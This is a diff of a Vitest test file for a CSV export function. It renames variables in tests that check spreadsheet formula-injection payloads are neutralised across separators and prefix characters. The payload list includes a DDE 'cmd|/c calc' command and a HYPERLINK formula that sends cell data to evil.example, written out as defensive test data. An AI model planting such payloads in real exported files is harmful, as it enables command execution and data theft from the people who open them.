@@ -3,14 +3,27 @@ import { describe, expect, it } from 'vitest';
 import { reportMeasurement } from '../../testing/report-measurement';
 import { csvRow } from './csv-row';
 
-const STARTS = ['=', '+', '-', '@', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20', '\uFE66', '\uFE62', '\uFE63', '\uFE6B'];
+const FORMULA_PREFIXES = [
+  '=',
+  '+',
+  '-',
+  '@',
+  '\uFF1D',
+  '\uFF0B',
+  '\uFF0D',
+  '\uFF20',
+  '\uFE66',
+  '\uFE62',
+  '\uFE63',
+  '\uFE6B',
+];
 const BEFORE = [
   ...['', ' ', '   ', '\u00A0', '\uFEFF', '\u200B', '\u200D', '\u2060', '\u00AD', '\v', '\f', '\t', '\r', '\n', '\r\n'],
   ...['"', "'", "''", '\u201C', '\u00AB', ' "', '\u2003\u3000', '\u202E', '\u0001', '\u2800', '\u3164'],
   ...['x;', 'x; ', 'x;;', 'x\t', 'x\n', 'x\r', 'a "b";', 'x;\uFEFF"', ';', ';\n'],
 ];
 const AFTER = ["cmd|'/c calc'!A0", '1+1', 'HYPERLINK("http://evil.example?"&A1,"Open")', 'SUM(A1:A9)*cmd'];
-const PAYLOADS = STARTS.flatMap((start, at) =>
+const PAYLOADS = FORMULA_PREFIXES.flatMap((start, at) =>
   BEFORE.map((before, index) => `${before}${start}${AFTER[(at + index) % AFTER.length] ?? ''}`),
 );
 
@@ -40,13 +53,13 @@ function cellsOf(text: string, separator: string): string[] {
 const LEADING_BLANKS = /^[\s\p{Z}\p{Cc}\p{Cf}\u2800\u3164"]+/u;
 /** Whether a spreadsheet could take a cell for a formula, also behind spaces and double quotes. */
 const isLive = (cell: string) =>
-  STARTS.includes(cell.replace(LEADING_BLANKS, '').slice(0, 1)) && !/^[+-]?\d+(\.\d+)?$/.test(cell);
+  FORMULA_PREFIXES.includes(cell.replace(LEADING_BLANKS, '').slice(0, 1)) && !/^[+-]?\d+(\.\d+)?$/.test(cell);
 const liveCellsIn = (line: string) => [',', ';', '\t'].flatMap((separator) => cellsOf(line, separator).filter(isLive));
 
 /** Restores the exported text: of the apostrophes before a formula, the first one was added. */
 function restoreCell(cell: string): string {
-  const skipped = '[\\p{Z}\\p{Cc}\\p{Cf}\\p{Quotation_Mark}`\\u2800\\u3164\\u115F\\u1160\\uFFA0]*';
-  const start = `${skipped}[${STARTS.join('').replace('-', '\\-')}]`;
+  const skippedCharacters = '[\\p{Z}\\p{Cc}\\p{Cf}\\p{Quotation_Mark}`\\u2800\\u3164\\u115F\\u1160\\uFFA0]*';
+  const start = `${skippedCharacters}[${FORMULA_PREFIXES.join('').replace('-', '\\-')}]`;
   return cell.replace(new RegExp(`^'(?='*[\\t\\r\\n]|${start})|(?<=[;\\t\\r\\n])'(?=${start})`, 'gu'), '');
 }
 
@@ -70,26 +83,26 @@ describe('a row', () => {
 });
 
 it('leaves no payload active in any cell, with commas, semicolons and tabs as separators', () => {
-  const live = PAYLOADS.flatMap((payload) => [
+  const livePayloads = PAYLOADS.flatMap((payload) => [
     ...liveCellsIn(csvRow([payload, 'x'])),
     ...liveCellsIn(csvRow(['x', payload])),
     ...liveCellsIn(csvRow(['a "quoted" one', payload, payload])),
   ]);
-  expect(live).toEqual([]);
+  expect(livePayloads).toEqual([]);
   // Control: written by RFC 4180 alone, every payload is active in some spreadsheet.
   const unescapedCell = (payload: string) => `x,"${payload.replaceAll('"', '""')}"`;
-  const missed = PAYLOADS.filter(
+  const missedPayloads = PAYLOADS.filter(
     (payload) => liveCellsIn(unescapedCell(payload)).length === 0 && !/^['\u201C\u00AB]/.test(payload),
   );
-  expect(missed).toEqual([]);
+  expect(missedPayloads).toEqual([]);
   reportMeasurement(
     'T24',
-    `${PAYLOADS.length} payloads x 3 places x 3 separators, cells and headers: ${live.length} live`,
+    `${PAYLOADS.length} payloads x 3 places x 3 separators, cells and headers: ${livePayloads.length} live`,
   );
 });
 
 it('writes every text so that it can be restored', () => {
-  const alphabet = [...STARTS, ...BEFORE.filter((one) => one !== ''), ';', ',', '1', 'a', '.', '\u00E9'];
+  const alphabet = [...FORMULA_PREFIXES, ...BEFORE.filter((one) => one !== ''), ';', ',', '1', 'a', '.', '\u00E9'];
   const text = fc.array(fc.constantFrom(...alphabet), { maxLength: 8 }).map((parts) => parts.join(''));
   let read = 0;
   const check = (cells: readonly string[]) => {
